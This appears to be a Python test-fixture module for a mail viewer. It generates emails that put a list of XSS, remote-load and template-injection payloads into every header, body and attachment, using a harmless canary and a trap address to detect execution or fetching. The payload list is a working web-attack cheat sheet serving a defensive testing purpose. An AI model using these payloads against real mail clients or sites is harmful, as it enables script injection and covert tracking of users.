"""A few hundred ways to run a script or to load something, and mails that hold them in every field.

With MAILTRAP_LITE_THOROUGH=1 each way stands behind each thing that might let it out; else behind two of them, which
change from way to way, so that each is there a dozen times.
A browser computes for ten seconds on a mail of them.
"""

from __future__ import annotations

import os
from email.header import Header
from itertools import islice

# {trap} is an address that must not be asked for anything.
VECTORS = (
    "<script>top.ran=1</script>",
    "<script src={trap}/s.js></script>",
    "<script type=module>import '{trap}/m.js'</script>",
    "<ScRiPt >top.ran=1</sCrIpT\t>",
    "<img src=x onerror=top.ran=1>",
    "<img src={trap}/img>",
    "<img srcset='{trap}/srcset 2x'>",
    "<image src={trap}/image onerror=top.ran=1>",
    "<svg onload=top.ran=1>",
    "<svg><script href={trap}/svg.js></script></svg>",
    "<svg><image href={trap}/svgimage /></svg>",
    "<svg><animate onbegin=top.ran=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=top.ran=1>#x'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=top.ran=1>",
    "<iframe src={trap}/frame></iframe>",
    "<iframe srcdoc='<script>top.ran=1</script>'></iframe>",
    "<object data={trap}/object></object>",
    "<embed src={trap}/embed>",
    "<video src={trap}/video onerror=top.ran=1 autoplay></video>",
    "<audio src={trap}/audio autoplay></audio>",
    "<video poster={trap}/poster></video>",
    "<link rel=stylesheet href={trap}/l.css>",
    "<link rel=preload as=image href={trap}/preload>",
    "<link rel=prefetch href={trap}/prefetch>",
    "<link rel=icon href={trap}/icon>",
    "<style>@import '{trap}/i.css'</style>",
    "<style>*{background:url({trap}/css)}</style>",
    "<p style='background:url({trap}/inline)'>x</p>",
    "<table background={trap}/table><tr><td>x</table>",
    "<meta http-equiv=refresh content='0;url={trap}/refresh'>",
    "<base href={trap}/>",
    "<form action={trap}/form><input autofocus onfocus=top.ran=1></form>",
    "<details open ontoggle=top.ran=1><summary>x</summary></details>",
    "<body onload=top.ran=1>",
    "<input type=image src={trap}/input>",
    "<a href=javascript:top.ran=1>x</a>",
    "<a href='&#106;avascript:top.ran=1'>x</a>",
    "<a ping={trap}/ping href=#x>x</a>",
    "javascript:top.ran=1",
    "{trap}/bare",
    "{{constructor.constructor('top.ran=1')()}}",
    "${{top.ran=1}}",
    "{% print 7*7 %}",
    "<marquee onstart=top.ran=1>x</marquee>",
    "<template shadowrootmode=open><img src={trap}/shadow></template>",
)
BREAKERS = ("", 'x">', "x'>", "</textarea>", "</title>", "-->", "</pre></span>", "</style></script>")
THOROUGH = os.environ.get("MAILTRAP_LITE_THOROUGH") == "1"
AT_ONCE = 24  # payloads in each field of one mail


def payloads(trap: str) -> list[str]:
    """Return all payloads: ways, behind what might let them out."""
    breakers = [BREAKERS if THOROUGH else (BREAKERS * 2)[place % 8 :][:8:5] for place in range(len(VECTORS))]
    return [
        breaker + vector.replace("{trap}", trap)
        for vector, some in zip(VECTORS, breakers, strict=True)
        for breaker in some
    ]


def mails(trap: str) -> list[bytes]:
    """Return mails in which each payload stands in each field."""
    waiting = iter(payloads(trap))
    found: list[bytes] = []
    while chosen := list(islice(waiting, AT_ONCE)):
        found.append(_mail(chosen, number=len(found)))
    return found


def _mail(chosen: list[str], *, number: int) -> bytes:
    text = " ".join(chosen)
    word = Header(text, "utf-8", maxlinelen=100_000).encode()
    bare = text.replace("\t", " ")
    quoted = bare.replace("\\", "").replace('"', '\\"')
    links = "".join(f'<a href="{payload.replace(chr(34), "&quot;")}">{payload}</a>\n' for payload in chosen)
    leave = ", ".join(f"<{payload}>" for payload in chosen)
    people = ", ".join(f"{Header(payload, 'utf-8', maxlinelen=100_000).encode()} <a@x.test>" for payload in chosen)
    return (
        f"Received: from {bare} by {bare} with {bare} for <{bare}>; {bare}\r\n"
        f"Received: from a ({bare}) by b ({bare}) with ESMTPS id {bare}; Mon, 23 Nov 2026 14:02:11 +0100\r\n"
        f"Authentication-Results: {bare}; spf=pass {bare}; dkim={bare}\r\n"
        f"DKIM-Signature: v=1; d={bare}; s={bare}; h={bare}\r\n"
        f"From: {people}\r\nTo: {people}\r\nCc: {people}\r\nBcc: {people}\r\nReply-To: {people}\r\nSender: {people}\r\n"
        f"Return-Path: <{bare}>\r\nSubject: {number} {word}\r\nMessage-ID: <{bare}>\r\nDate: {bare}\r\n"
        f"List-Unsubscribe: {leave} {bare}\r\nList-Unsubscribe-Post: {bare}\r\n"
        f'X-Evil: {bare}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"; x="{quoted}"\r\n\r\n'
        f'--b\r\nContent-Type: text/plain; charset="{quoted}"\r\nContent-Description: {bare}\r\n\r\n'
        f"{text}\r\n> {text}\r\n"
        f"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Shown text</p>{links}{text}\r\n"
        f"--b\r\nContent-Type: {bare}\r\nContent-ID: <{bare}>\r\nContent-Transfer-Encoding: {bare}\r\n"
        f'Content-Disposition: attachment; filename="{quoted}"\r\n\r\n{text}\r\n'
        f'--b\r\nContent-Type: text/csv; name="{word}"\r\nContent-Disposition: {bare}\r\n\r\n{text}\r\n'
        f"--b\r\nContent-Type: image/svg+xml\r\nContent-Disposition: attachment; filename=x.svg\r\n\r\n{text}\r\n"
        f'--b\r\nContent-Type: multipart/mixed; boundary="{quoted}"\r\n\r\n{text}\r\n'
        f"--b\r\nContent-Type: message/rfc822\r\n\r\nSubject: {word}\r\nFrom: {people}\r\n"
        f"Content-Type: text/html\r\n\r\n{text}\r\n--b--\r\n"
    ).encode("utf-8", "replace")
